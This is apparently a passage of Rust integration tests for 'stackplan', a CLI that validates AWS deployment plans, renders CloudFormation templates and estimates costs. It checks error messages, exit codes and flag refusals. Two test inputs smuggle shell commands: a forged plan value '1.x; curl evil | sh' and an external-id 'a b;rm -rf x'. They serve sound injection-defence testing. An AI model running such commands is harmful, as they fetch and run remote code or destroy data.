//! The `stackplan` binary, run as a user runs it.

use std::io::Write;
use std::process::{Command, Output, Stdio};

use shared::{ValidPlan, examples, template};

fn stackplan(args: &[&str], stdin: &str) -> Output {
    let mut command = Command::new(env!("CARGO_BIN_EXE_stackplan"));
    // Only the arguments given: no setting of the shell the tests run in.
    for (key, _) in std::env::vars_os() {
        if key.to_string_lossy().starts_with("STACKPLAN_") {
            command.env_remove(key);
        }
    }
    let mut child = command
        .args(args)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("stackplan starts");
    // A command refused on its arguments exits before reading its input: the pipe is then
    // closed, and what it answers is judged below.
    match child.stdin.take().unwrap().write_all(stdin.as_bytes()) {
        Err(e) if e.kind() != std::io::ErrorKind::BrokenPipe => panic!("writing stdin: {e}"),
        _ => {}
    }
    let out = child.wait_with_output().unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(!stderr.contains("panicked"), "stackplan panicked: {stderr}");
    out
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8(bytes.to_vec()).unwrap()
}

#[test]
fn example_piped_into_template_is_the_library_template() {
    for (arch, plan) in [
        ("fargate", examples::fargate()),
        ("lambda", examples::lambda()),
    ] {
        let example = stackplan(&["example", arch], "");
        assert!(example.status.success());
        let expected = template::generate(&ValidPlan::new(plan).unwrap());
        for (format, rendered) in [("json", expected.to_json()), ("yaml", expected.to_yaml())] {
            let out = stackplan(
                &["template", "--plan", "-", "--format", format],
                &text(&example.stdout),
            );
            assert!(out.status.success(), "{}", text(&out.stderr));
            assert_eq!(text(&out.stdout), rendered, "{arch} {format}");
        }
    }
}

#[test]
fn validate_accepts_the_examples_and_says_their_warnings() {
    let plan = text(&stackplan(&["example", "fargate"], "").stdout);
    let out = stackplan(&["validate", "--plan", "-"], &plan);
    assert_eq!(out.status.code(), Some(0));
    assert_eq!(
        text(&out.stdout),
        "fargate.https: warning: no certificate: the load balancer serves plain HTTP on port 80, unencrypted\n\
         shop: valid ECS Fargate plan\n"
    );
}

#[test]
fn validate_lists_every_problem_and_exits_2() {
    let mut plan = serde_json::to_value(examples::fargate()).unwrap();
    plan["fargate"]["vcpu"] = 0.25.into();
    plan["fargate"]["memory_mib"] = 8192.into();
    plan["project"] = "X".into();
    let out = stackplan(&["validate", "--plan", "-"], &plan.to_string());
    assert_eq!(out.status.code(), Some(2));
    assert_eq!(
        text(&out.stderr),
        "project: \"X\" must be 3–24 characters long (it is 1)\n\
         fargate.memory_mib: 8192 MiB is not allowed with 0.25 vCPU (allowed: 512–2048)\n"
    );
    let out = stackplan(&["template", "--plan", "-"], &plan.to_string());
    assert_eq!(
        out.status.code(),
        Some(2),
        "no template for an invalid plan"
    );
    assert!(out.stdout.is_empty());
}

#[test]
fn bad_input_gets_a_message_not_a_panic() {
    for (input, code, message) in [
        (
            "",
            2,
            "the plan is empty: expected a JSON object (try `stackplan example fargate`)\n",
        ),
        (
            "{not json",
            2,
            "the plan is not valid JSON: key must be a string at line 1 column 2\n",
        ),
        (
            "[1, 2]",
            2,
            "the plan must be a JSON object {…}, with a `fargate` or a `lambda` section\n",
        ),
        (
            "{\"project\": 5}",
            2,
            "project: invalid type: integer `5`, expected a string at line 1 column 13\n",
        ),
        // Every field that does not read, one per line as the validator's problems; the
        // first is placed in the text.
        (
            "{\"project\": 5, \"region\": \"mars-1\", \"tags\": {\"a\": [1]}}",
            2,
            "project: invalid type: integer `5`, expected a string at line 1 column 13\n\
             region: unknown variant `mars-1`, expected one of `us-east-1`, `us-west-2`, `eu-west-1`, `eu-central-1`, `ap-southeast-1`, `ap-northeast-1`\n\
             tags.a: invalid type: sequence, expected a string\n",
        ),
    ] {
        for cmd in ["validate", "template"] {
            let out = stackplan(&[cmd, "--plan", "-"], input);
            assert_eq!(out.status.code(), Some(code), "{cmd} {input:?}");
            assert_eq!(text(&out.stderr), message, "{cmd} {input:?}");
        }
    }
    let out = stackplan(&["validate", "--plan", "/"], "");
    assert_eq!(out.status.code(), Some(1));
    assert_eq!(text(&out.stderr), "cannot read /: Is a directory\n");
    let out = stackplan(&["validate", "--plan", "/nonexistent/plan.json"], "");
    assert_eq!(out.status.code(), Some(1));
    assert!(
        text(&out.stderr).starts_with("cannot read /nonexistent/plan.json: "),
        "{}",
        text(&out.stderr)
    );
}

/// What is far longer than any plan is not read to its end: an endless input ends with a
/// message, not with the memory.
#[test]
fn an_endless_input_is_refused_not_read() {
    let out = stackplan(&["validate", "--plan", "/dev/zero"], "");
    assert_eq!(out.status.code(), Some(1));
    assert_eq!(
        text(&out.stderr).trim(),
        "cannot read /dev/zero: it is longer than 1 MiB, and a plan is a few kilobytes: is it the plan file?"
    );
    let out = stackplan(&["validate", "--plan", "-"], &" ".repeat(1024 * 1024 + 1));
    assert_eq!(out.status.code(), Some(1));
    assert!(text(&out.stderr).starts_with("cannot read standard input: it is longer than 1 MiB"));
    // A link read from standard input is said to be too long for a link, not for a plan.
    let out = stackplan(&["link", "--decode", "-"], &"a".repeat(1024 * 1024 + 1));
    assert_eq!(out.status.code(), Some(1));
    assert_eq!(
        text(&out.stderr).trim(),
        "cannot read standard input: it is longer than 1 MiB, and a share link is at most 8,192 characters: is it the link?"
    );
}

#[test]
fn plan_files_are_read_from_disk() {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("plan.json");
    std::fs::write(&file, text(&stackplan(&["example", "lambda"], "").stdout)).unwrap();
    let out = stackplan(&["validate", "--plan", file.to_str().unwrap()], "");
    assert!(out.status.success(), "{}", text(&out.stderr));
}

#[test]
fn a_template_given_as_a_plan_says_how_to_get_its_plan() {
    let plan = examples::lambda();
    let yaml = template::generate(&ValidPlan::new(plan.clone()).unwrap()).to_yaml();
    let out = stackplan(&["estimate", "--plan", "-"], &yaml);
    assert_eq!(out.status.code(), Some(2));
    let said = text(&out.stderr);
    let command = said
        .lines()
        .find_map(|l| l.trim().strip_prefix("stackplan "))
        .unwrap_or_else(|| panic!("no command in {said:?}"));
    assert!(
        said.starts_with("standard input is a template Stackplan wrote, not a plan file."),
        "{said}"
    );
    // The command it gives prints the plan the template records.
    let args: Vec<&str> = command.split(" > ").next().unwrap().split(' ').collect();
    let decoded = stackplan(&args, "");
    assert!(decoded.status.success(), "{}", text(&decoded.stderr));
    assert_eq!(shared::Plan::from_json(&text(&decoded.stdout)), Ok(plan));
    // A recorded plan that is not one (a template from anyone): no command to paste.
    let forged = yaml.replace(
        &shared::link::encode(&examples::lambda()),
        "\"1.x; curl evil | sh\"",
    );
    let out = stackplan(&["estimate", "--plan", "-"], &forged);
    assert_eq!(out.status.code(), Some(2));
    let said = text(&out.stderr);
    assert!(
        said.contains("the plan it records (Metadata.Stackplan.Plan) could not be read"),
        "{said}"
    );
    assert!(!said.contains("stackplan link"), "{said}");
    // A template Stackplan did not write.
    let out = stackplan(
        &["validate", "--plan", "-"],
        r#"{"AWSTemplateFormatVersion": "2010-09-09", "Resources": {}}"#,
    );
    assert_eq!(out.status.code(), Some(2));
    assert!(
        text(&out.stderr)
            .contains("is a CloudFormation template, not a plan file, and not one Stackplan wrote")
    );
}

#[test]
fn schema_describes_the_plan() {
    let out = stackplan(&["schema"], "");
    assert!(out.status.success());
    let schema: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(schema["title"], "Stackplan deployment plan");
    assert_eq!(
        schema["additionalProperties"], false,
        "unknown fields are errors"
    );
    for field in ["project", "region", "workload", "fargate", "lambda"] {
        assert!(schema["properties"][field].is_object(), "{field}");
    }
    assert_eq!(schema["oneOf"].as_array().unwrap().len(), 2);
    // The versions a build reads: 0 is refused, so the schema does not allow it.
    assert_eq!(schema["properties"]["version"]["minimum"], 1);
    assert_eq!(
        schema["properties"]["version"]["maximum"],
        shared::plan::PLAN_VERSION
    );
}

#[test]
fn link_round_trips_through_the_cli() {
    for arch in ["fargate", "lambda"] {
        let plan = text(&stackplan(&["example", arch], "").stdout);
        let out = stackplan(
            &["link", "--plan", "-", "--base", "https://plan.example/"],
            &plan,
        );
        assert!(out.status.success(), "{}", text(&out.stderr));
        let url = text(&out.stdout);
        assert!(url.starts_with("https://plan.example/#plan=1."), "{url}");
        // Priced as `stackplan estimate` prices it: the free tier counted, the embedded book.
        let book = shared::cost::PriceBook::embedded();
        let suffix = format!("&book={},{}\n", book.version, book.date);
        assert!(url.ends_with(&suffix), "{url}");
        assert!(!url.contains("free_tier"), "{url}");
        assert!(url.trim().len() <= 450, "{} characters", url.trim().len());
        let back = stackplan(&["link", "--decode", url.trim()], "");
        assert!(back.status.success(), "{}", text(&back.stderr));
        assert_eq!(text(&back.stdout), plan);
        assert_eq!(
            text(&back.stderr),
            format!(
                "The sharer priced this plan with price book {} ({}).\n",
                book.version, book.date
            )
        );
        // Without the free tier: the link says so, and its reader hears it.
        let out = stackplan(
            &[
                "link",
                "--plan",
                "-",
                "--no-free-tier",
                "--base",
                "https://plan.example/",
            ],
            &plan,
        );
        let url = text(&out.stdout);
        assert!(url.contains("&free_tier=off&book="), "{url}");
        let back = stackplan(&["link", "--decode", url.trim()], "");
        assert_eq!(text(&back.stdout), plan);
        assert!(
            text(&back.stderr).starts_with(
                "The sharer priced this plan without the always-free allowances, with price book"
            ),
            "{}",
            text(&back.stderr)
        );
    }
    // A link priced with another book says which one this build uses.
    let plan = text(&stackplan(&["example", "lambda"], "").stdout);
    let url = text(&stackplan(&["link", "--plan", "-"], &plan).stdout);
    let (head, _) = url.split_once("&book=").unwrap();
    let back = stackplan(
        &[
            "link",
            "--decode",
            &format!("{head}&book=1999.1,1999-01-01"),
        ],
        "",
    );
    assert_eq!(text(&back.stdout), plan);
    let book = shared::cost::PriceBook::embedded();
    assert_eq!(
        text(&back.stderr),
        format!(
            "The sharer priced this plan with price book 1999.1 (1999-01-01). This build's estimate uses price book {} ({}).\n",
            book.version, book.date
        )
    );
    // A plain link (an embedding page's, a deployed stack's) says nothing of pricing.
    let back = stackplan(&["link", "--decode", head], "");
    assert_eq!(text(&back.stdout), plan);
    assert_eq!(text(&back.stderr), "");
    let bad = stackplan(
        &["link", "--decode", "https://plan.example/#plan=1.abc"],
        "",
    );
    assert_eq!(bad.status.code(), Some(2));
    assert_eq!(
        text(&bad.stderr),
        "the link is damaged or cut short: its data does not unpack (was it copied whole?)\n"
    );
}

#[test]
fn prices_commands_without_credentials_say_so() {
    let home = tempfile::tempdir().unwrap();
    for args in [
        ["prices", "refresh", "--region", "us-east-1"],
        ["prices", "diff", "--region", "eu-west-1"],
    ] {
        let out = Command::new(env!("CARGO_BIN_EXE_stackplan"))
            .args(args)
            .env_clear()
            .env("HOME", home.path())
            .env("PATH", std::env::var_os("PATH").unwrap_or_default())
            // No instance-metadata endpoint to wait for on a developer machine.
            .env("AWS_EC2_METADATA_DISABLED", "true")
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(1), "{args:?}");
        let err = text(&out.stderr);
        assert!(err.contains("no AWS credentials found"), "{err}");
        assert!(out.stdout.is_empty());
    }
    let out = stackplan(&["prices", "diff", "--region", "mars-1"], "");
    assert_eq!(out.status.code(), Some(2));
    assert!(
        text(&out.stderr)
            .contains("not a region Stackplan prices (it prices us-east-1, us-west-2,"),
        "{}",
        text(&out.stderr)
    );
}

#[test]
fn estimate_against_a_deployed_plan_prints_the_cost_of_the_change() {
    let dir = tempfile::tempdir().unwrap();
    let old = dir.path().join("old.json");
    let new = dir.path().join("new.json");
    let example = text(&stackplan(&["example", "fargate"], "").stdout);
    std::fs::write(&old, &example).unwrap();
    let mut plan: serde_json::Value = serde_json::from_str(&example).unwrap();
    plan["fargate"]["vcpu"] = serde_json::json!(1.0);
    plan["fargate"]["memory_mib"] = serde_json::json!(2048);
    std::fs::write(&new, plan.to_string()).unwrap();
    let args = |json: bool| {
        let mut a = vec![
            "estimate",
            "--plan",
            new.to_str().unwrap(),
            "--against",
            old.to_str().unwrap(),
        ];
        if json {
            a.push("--json");
        }
        stackplan(&a, "")
    };
    let out = args(false);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let table = text(&out.stdout);
    // Twice the vCPU and memory: 2 tasks × 730 h × 0.5 more vCPU × $0.04048 = +$29.55.
    assert!(table.contains("Fargate: x86 vCPU (on-demand)"), "{table}");
    assert!(table.contains("+29.55"), "{table}");
    let diff: serde_json::Value = serde_json::from_slice(&args(true).stdout).unwrap();
    let delta = diff["delta_usd"].as_f64().unwrap();
    assert!((delta - (29.55 + 6.49)).abs() < 0.011, "{diff}");
    assert_eq!(diff["lines"].as_array().unwrap().len(), 2, "{diff}");
}

#[test]
fn log_bucket_policy_prints_what_the_users_log_bucket_needs() {
    let matrix: std::collections::BTreeMap<_, _> = examples::matrix().into_iter().collect();
    let plan = matrix["fargate-governed"].clone();
    let bucket = plan
        .log_bucket
        .clone()
        .expect("the governed example names one");
    let out = stackplan(
        &[
            "log-bucket-policy",
            "--plan",
            "-",
            "--account",
            "111122223333",
        ],
        &plan.to_json_pretty(),
    );
    assert!(out.status.success(), "{}", text(&out.stderr));
    let doc: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let statement = |sid: &str| {
        doc["Statement"]
            .as_array()
            .unwrap()
            .iter()
            .find(|s| s["Sid"] == sid)
            .unwrap_or_else(|| panic!("no {sid}: {doc}"))
            .clone()
    };
    let access = statement("S3ServerAccessLogs");
    assert_eq!(access["Resource"], format!("arn:aws:s3:::{bucket}/*/s3/*"));
    assert_eq!(
        access["Condition"]["StringEquals"]["aws:SourceAccount"],
        "111122223333"
    );
    let elb = template::ELB_ACCOUNTS
        .iter()
        .find(|(r, _)| *r == plan.region.code())
        .unwrap()
        .1;
    let alb = statement("LoadBalancerAccessLogs");
    assert_eq!(alb["Principal"]["AWS"], format!("arn:aws:iam::{elb}:root"));
    assert_eq!(
        alb["Resource"],
        format!("arn:aws:s3:::{bucket}/*/alb/AWSLogs/111122223333/*")
    );
    assert_eq!(
        statement("FlowLogsAclCheck")["Resource"],
        format!("arn:aws:s3:::{bucket}")
    );
    // A Lambda plan's stacks write S3's access logs, and in the governed profile their VPC's
    // flow logs.
    let sids = |plan: &shared::Plan| {
        let out = stackplan(
            &["log-bucket-policy", "--plan", "-"],
            &plan.to_json_pretty(),
        );
        assert!(out.status.success(), "{}", text(&out.stderr));
        let doc: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
        assert_eq!(
            doc["Statement"][0]["Condition"]["StringEquals"]["aws:SourceAccount"],
            template::ACCOUNT_PLACEHOLDER
        );
        doc["Statement"]
            .as_array()
            .unwrap()
            .iter()
            .map(|s| s["Sid"].as_str().unwrap().to_string())
            .collect::<Vec<_>>()
    };
    let governed = matrix["lambda-governed"].clone();
    assert_eq!(
        sids(&governed),
        ["S3ServerAccessLogs", "FlowLogsWrite", "FlowLogsAclCheck"]
    );
    let mut lambda = examples::lambda();
    lambda.log_bucket = governed.log_bucket.clone();
    assert_eq!(sids(&lambda), ["S3ServerAccessLogs"]);
    // A plan without one, and an account that is not one, are refused.
    let example = text(&stackplan(&["example", "fargate"], "").stdout);
    let out = stackplan(&["log-bucket-policy", "--plan", "-"], &example);
    assert_eq!(out.status.code(), Some(2));
    assert!(text(&out.stderr).contains("log_bucket: the plan names no log bucket of yours"));
    let out = stackplan(
        &["log-bucket-policy", "--plan", "-", "--account", "1234"],
        &example,
    );
    assert_eq!(out.status.code(), Some(2));
    assert!(text(&out.stderr).contains("\"1234\" is not an AWS account ID"));
}

/// `bootstrap` checks what it is given as its template would (CloudFormation would refuse it
/// only when the stack is deployed), naming the flag; what it prints is pasted into a shell, so
/// every value in it is one shell word.
#[test]
fn bootstrap_checks_its_flags_and_prints_a_command_a_shell_reads_as_meant() {
    let dir = std::env::temp_dir().join(format!("stackplan-cli-bootstrap-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let out_file = dir.join("my dir.json");
    let out_arg = out_file.display().to_string();
    let refused = stackplan(
        &[
            "bootstrap",
            "--out",
            &out_arg,
            "--external-id",
            "a b;rm -rf x",
            "--trusted-principal",
            "not an arn",
        ],
        "",
    );
    assert_eq!(refused.status.code(), Some(2));
    let stderr = text(&refused.stderr);
    assert!(
        stderr.contains("--external-id: an ExternalId has 16 to 1224 characters")
            && stderr.contains(
                "--trusted-principal: \"not an arn\" is not a role, user or role session ARN"
            ),
        "{stderr}"
    );
    assert!(!out_file.exists(), "nothing written");
    let ok = stackplan(
        &[
            "bootstrap",
            "--out",
            &out_arg,
            "--trusted-principal",
            "arn:aws:iam::111122223333:role/stackplan",
        ],
        "",
    );
    assert_eq!(ok.status.code(), Some(0), "{}", text(&ok.stderr));
    let printed = text(&ok.stdout);
    assert!(
        printed.contains(&format!("--template-file '{out_arg}' ")),
        "{printed}"
    );
    // A fresh ExternalId is said to be one: an update of a bootstrap stack in use passes the
    // server's, which then appears as given, with no warning.
    assert!(
        printed.contains("The ExternalId above is new. Updating a bootstrap stack that a server already uses? Run this again with --external-id"),
        "{printed}"
    );
    let kept = stackplan(
        &[
            "bootstrap",
            "--out",
            &out_arg,
            "--external-id",
            "the-id-the-server-uses-0123",
            "--trusted-principal",
            "arn:aws:iam::111122223333:role/stackplan",
        ],
        "",
    );
    assert_eq!(kept.status.code(), Some(0), "{}", text(&kept.stderr));
    let printed = text(&kept.stdout);
    assert!(
        printed.contains("ExternalId=the-id-the-server-uses-0123")
            && printed.contains("--external-id the-id-the-server-uses-0123")
            && !printed.contains("is new"),
        "{printed}"
    );
    std::fs::remove_dir_all(&dir).unwrap();
}

/// A reader that stops early (`| head -c 10`) ends the command well, with no panic (the
/// harness checks stderr for one).
#[test]
fn bootstrap_output_cut_short_is_not_a_crash() {
    let dir = std::env::temp_dir().join(format!("stackplan-cli-pipe-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let out_arg = dir.join("b.json").display().to_string();
    let child = Command::new(env!("CARGO_BIN_EXE_stackplan"))
        .args(["bootstrap", "--out", &out_arg])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("stackplan starts");
    // Closing the read end before it writes: its first write meets a closed pipe.
    let mut child = child;
    drop(child.stdout.take());
    let out = child.wait_with_output().unwrap();
    let stderr = text(&out.stderr);
    assert!(!stderr.contains("panicked"), "{stderr}");
    assert_eq!(out.status.code(), Some(0), "{stderr}");
    std::fs::remove_dir_all(&dir).unwrap();
}

/// Flags that would be ignored, or inputs that would be confused, are refused with the flag's
/// name: `compare`'s Lambda-side flags on a Lambda plan, `estimate --against` naming the plan
/// a problem is in, both plans from standard input, and a `link --base` that is not an address
/// or makes a link too long to open.
#[test]
fn flags_that_cannot_apply_are_refused_by_name() {
    let dir = tempfile::tempdir().unwrap();
    let lambda = text(&stackplan(&["example", "lambda"], "").stdout);
    let out = stackplan(
        &["compare", "--plan", "-", "--lambda-memory-mb", "4096"],
        &lambda,
    );
    assert_eq!(out.status.code(), Some(2));
    assert!(
        text(&out.stderr).starts_with("--lambda-memory-mb set the Lambda side of a Fargate plan"),
        "{}",
        text(&out.stderr)
    );
    assert!(out.stdout.is_empty());

    // A price book fetched and never used: every page's price request would fetch it again.
    let out = stackplan(&["serve", "--prices-ttl-hours", "0"], "");
    assert_eq!(out.status.code(), Some(2));
    assert!(
        text(&out.stderr).contains("--prices-ttl-hours"),
        "{}",
        text(&out.stderr)
    );

    // Flags serve refuses as written exit 2, before anything starts, and a wrong id key is
    // not repeated.
    for (flags, says) in [
        (
            &["--addr", "bogus"][..],
            "--addr \"bogus\" is not HOST:PORT",
        ),
        (&["--addr", "127.0.0.1:99999"][..], "is not HOST:PORT"),
        (&["--cors-origin", "*"][..], "a wildcard would let any page"),
        (
            &["--embed-origin", "notaurl"][..],
            "--embed-origin \"notaurl\" is not an origin",
        ),
        (
            &["--id-key", "secret-but-mistyped"][..],
            "--id-key: the id key must be 64 hex digits",
        ),
        // The sandbox's address: a URL, and never with credentials, which every answer naming
        // the sandbox (and the log) would carry; they are not repeated either.
        (
            &[
                "--aws-endpoint",
                "http://admin:secret-but-given@127.0.0.1:5000",
            ][..],
            "--aws-endpoint: it holds credentials (user:password@): give the address alone",
        ),
        (
            &["--aws-endpoint", "not a url"][..],
            "--aws-endpoint: it is not a URL (http://127.0.0.1:5000)",
        ),
        (
            &["--aws-endpoint", "ftp://127.0.0.1:5000"][..],
            "--aws-endpoint: it is not an http:// or https:// URL",
        ),
        (
            &[
                "--aws-endpoint",
                "http://127.0.0.1:5000/?token=secret-but-given",
            ][..],
            "--aws-endpoint: it holds more than an address",
        ),
        // The server's own roles and lists.
        (
            &["--role-arn", "arn:aws:iam::111122223333:user/someone"][..],
            "--role-arn: arn:aws:iam::111122223333:user/someone is not an IAM role ARN",
        ),
        (
            &["--role-arn", "arn:aws:iam::111122223333:role/deployer"][..],
            "has no execution role",
        ),
        (
            &["--settings-prefix", "/"][..],
            "--settings-prefix / --hosted-zone-id:",
        ),
    ] {
        let out = stackplan(&[&["serve"][..], flags].concat(), "");
        let said = text(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{flags:?}: {said}");
        assert!(said.contains(says), "{flags:?}: {said}");
        assert!(!said.contains("secret-but"), "{said}");
        assert!(out.stdout.is_empty(), "{flags:?}");
    }

    let fargate = text(&stackplan(&["example", "fargate"], "").stdout);
    let good = dir.path().join("good.json");
    std::fs::write(&good, &fargate).unwrap();
    let mut broken: serde_json::Value = serde_json::from_str(&fargate).unwrap();
    broken["fargate"]["vcpu"] = serde_json::json!(3);
    let bad = dir.path().join("bad.json");
    std::fs::write(&bad, broken.to_string()).unwrap();
    let (good, bad) = (good.to_str().unwrap(), bad.to_str().unwrap());
    let out = stackplan(&["estimate", "--plan", good, "--against", bad], "");
    assert_eq!(out.status.code(), Some(2));
    assert!(
        text(&out.stderr).starts_with(&format!("--against {bad}: fargate.vcpu:")),
        "{}",
        text(&out.stderr)
    );
    let out = stackplan(&["estimate", "--plan", bad, "--against", good], "");
    assert!(
        text(&out.stderr).starts_with("fargate.vcpu:"),
        "{}",
        text(&out.stderr)
    );
    let out = stackplan(&["estimate", "--plan", "-", "--against", "-"], &fargate);
    assert_eq!(out.status.code(), Some(2));
    assert!(
        text(&out.stderr).contains("cannot both read standard input"),
        "{}",
        text(&out.stderr)
    );

    let long_base = format!("https://plan.example/{}", "a".repeat(8000));
    for (base, says) in [
        ("not a url", "is not where a planner is served"),
        ("https://", "is not where a planner is served"),
        (long_base.as_str(), "share links are at most 8192"),
    ] {
        let out = stackplan(&["link", "--plan", "-", "--base", base], &fargate);
        assert_eq!(out.status.code(), Some(2), "{base}");
        let err = text(&out.stderr);
        assert!(err.starts_with("--base: ") && err.contains(says), "{err}");
        assert!(out.stdout.is_empty());
    }
}

/// `deploy-status` tells a refused flag (exit 2, before any AWS call) from a failed stack
/// (exit 1), so that a CI job can tell a typo from a failure.
#[test]
fn deploy_status_refuses_flags_with_exit_2() {
    for (args, says) in [
        (
            ["--stack", "shop", "--region", "mars-1"],
            "\"mars-1\" is not a region Stackplan deploys to",
        ),
        (
            ["--stack", "no such!", "--region", "us-east-1"],
            "--stack: ",
        ),
        (
            ["--stack", "shop", "--wait-minutes", "0"],
            "0 is not in 1..=1440",
        ),
    ] {
        let mut all = vec!["deploy-status"];
        all.extend(args);
        let out = stackplan(&all, "");
        assert_eq!(out.status.code(), Some(2), "{args:?}");
        assert!(text(&out.stderr).contains(says), "{}", text(&out.stderr));
    }
    // A limit on a wait that was not asked for is refused, not ignored.
    let out = stackplan(
        &[
            "deploy-status",
            "--stack",
            "shop",
            "--region",
            "us-east-1",
            "--wait-minutes",
            "5",
        ],
        "",
    );
    assert_eq!(out.status.code(), Some(2));
    assert!(
        text(&out.stderr).contains("required arguments were not provided")
            && text(&out.stderr).contains("--wait\n"),
        "{}",
        text(&out.stderr)
    );
    // Without the server's id key no stack could be proved Stackplan's: refused, and no key is
    // made where there was none.
    let empty = tempfile::tempdir().unwrap();
    let dir = empty.path().display().to_string();
    let out = stackplan(
        &[
            "deploy-status",
            "--stack",
            "shop",
            "--region",
            "us-east-1",
            "--aws-endpoint",
            "http://127.0.0.1:9",
            "--data-dir",
            &dir,
        ],
        "",
    );
    assert_eq!(out.status.code(), Some(2), "{}", text(&out.stderr));
    assert!(
        text(&out.stderr).contains("no id key in"),
        "{}",
        text(&out.stderr)
    );
    assert!(!empty.path().join("id-key").exists());
}

/// The log a CI job captures is plain text: no terminal colour codes when stderr is a pipe.
/// (An endpoint nothing listens on makes the call fail, and its failure is logged.)
#[test]
fn logs_through_a_pipe_have_no_colour_codes() {
    let port = std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    let endpoint = format!("http://127.0.0.1:{port}");
    let out = stackplan(
        &[
            "deploy-status",
            "--stack",
            "shop",
            "--region",
            "us-east-1",
            "--aws-endpoint",
            &endpoint,
            "--id-key",
            &"5a".repeat(32),
        ],
        "",
    );
    assert_eq!(out.status.code(), Some(1));
    let stderr = text(&out.stderr);
    assert!(stderr.contains("WARN"), "a log line: {stderr}");
    assert!(!stderr.contains('\u{1b}'), "{stderr:?}");
    // The sentence printed for the user is not logged again above it.
    let said = stderr
        .lines()
        .find_map(|l| l.strip_prefix("stackplan deploy-status: "))
        .expect("the failure is said");
    assert!(
        !stderr.lines().any(|l| l.ends_with(&format!("WARN {said}"))),
        "said twice: {stderr}"
    );
}

/// `link --decode` reads a link from standard input (`-`), tells text that is no link from a
/// damaged one, and says when the plan a link carries is not valid (the plan is still written:
/// decoding is how a user gets at it).
#[test]
fn link_decode_reads_standard_input_and_says_what_it_decoded() {
    let mut plan = shared::examples::fargate();
    let code = shared::link::encode(&plan);
    let out = stackplan(
        &["link", "--decode", "-"],
        &format!("https://x.example/#plan={code}&free_tier=off\n"),
    );
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert_eq!(text(&out.stdout), plan.to_json_pretty() + "\n");
    // How it was priced, read from the link's end, before its newline.
    assert!(
        text(&out.stderr).contains("without the always-free allowances"),
        "{}",
        text(&out.stderr)
    );
    let out = stackplan(&["link", "--decode", "plan.json"], "");
    assert_eq!(out.status.code(), Some(2));
    assert!(
        text(&out.stderr).contains("the link carries no plan"),
        "{}",
        text(&out.stderr)
    );
    if let shared::plan::Architecture::Fargate(f) = &mut plan.architecture {
        f.max_tasks = 1000;
    }
    let link = format!("#plan={}", shared::link::encode(&plan));
    let out = stackplan(&["link", "--decode", &link], "");
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert_eq!(text(&out.stdout), plan.to_json_pretty() + "\n");
    assert!(
        text(&out.stderr).starts_with("the link's plan is not valid: fargate.max_tasks: "),
        "{}",
        text(&out.stderr)
    );
}

/// No silent $0 in the table: a line that costs nothing is followed by how it came to nothing
/// (a free allowance it falls within, or less than a cent), as the planner's line says.
#[test]
fn a_line_of_nothing_says_why() {
    for arch in ["fargate", "lambda"] {
        let plan = text(&stackplan(&["example", arch], "").stdout);
        let out = text(&stackplan(&["estimate", "--plan", "-"], &plan).stdout);
        let lines: Vec<&str> = out.lines().collect();
        let zero: Vec<usize> = (0..lines.len())
            .filter(|&i| lines[i].starts_with("  ") && lines[i].ends_with(" $0.00"))
            .collect();
        assert!(!zero.is_empty(), "{arch}: no line of nothing\n{out}");
        for i in zero {
            let why = lines[i + 1];
            assert!(
                why.starts_with("      (") && why.ends_with(')') && why.contains(" = "),
                "{arch}: {}\n{why}",
                lines[i]
            );
        }
    }
}

/// A sum that left out an unknown price is marked "+" wherever the table prints it: each
/// service's subtotal with an unknown line, and both ends of the range. (The Fargate example's
/// traffic between zones has no price in the book.)
#[test]
fn estimate_marks_every_sum_that_leaves_out_an_unknown_price() {
    let plan = text(&stackplan(&["example", "fargate"], "").stdout);
    let out = text(&stackplan(&["estimate", "--plan", "-"], &plan).stdout);
    let lines: Vec<&str> = out.lines().collect();
    let mut marked = 0;
    for (i, line) in lines.iter().enumerate() {
        let Some(subtotal) = line.strip_suffix(')').filter(|_| !line.starts_with(' ')) else {
            continue;
        };
        if !subtotal.contains("  ($") {
            continue;
        }
        let items = lines[i + 1..]
            .iter()
            .take_while(|l| l.starts_with("  "))
            .collect::<Vec<_>>();
        let unknown = items.iter().any(|l| l.trim_end().ends_with("unknown"));
        assert_eq!(subtotal.ends_with('+'), unknown, "{line}\n{out}");
        marked += usize::from(unknown);
    }
    assert!(marked >= 1, "no service had an unknown price:\n{out}");
    let total = lines
        .iter()
        .find(|l| l.starts_with("Monthly total:"))
        .unwrap();
    assert!(
        total.contains("+ (lower bound") && total.contains("+ – $") && total.ends_with('+'),
        "{total}"
    );
    // The top of the autoscaling band: all 10 of the example's tasks, marked like the total.
    let ceiling = lines
        .iter()
        .find(|l| l.starts_with("Autoscaling maximum: $"))
        .unwrap();
    assert!(
        ceiling.ends_with("+ with all 10 tasks running all month at double the traffic"),
        "{ceiling}"
    );
    // The JSON says the same, beside the estimate.
    let json: serde_json::Value =
        serde_json::from_slice(&stackplan(&["estimate", "--plan", "-", "--json"], &plan).stdout)
            .unwrap();
    let top = &json["autoscaling_ceiling"];
    assert_eq!(
        (top["tasks"].as_u64(), top["lower_bound"].as_bool()),
        (Some(10), Some(true)),
        "{top}"
    );
    assert!(
        ceiling.starts_with(&format!(
            "Autoscaling maximum: ${:.2}+",
            top["usd"].as_f64().unwrap()
        )),
        "{ceiling} vs {top}"
    );
    // A month whose every price is known, but whose range reaches traffic the book does not
    // price (double the Lambda example's traffic at 64 KB a response: over 10 TB out, whose
    // tier is not in the book), marks the range and not the total.
    let mut heavy: serde_json::Value =
        serde_json::from_str(&text(&stackplan(&["example", "lambda"], "").stdout)).unwrap();
    heavy["workload"]["requests_per_month"] = 100_000_000.into();
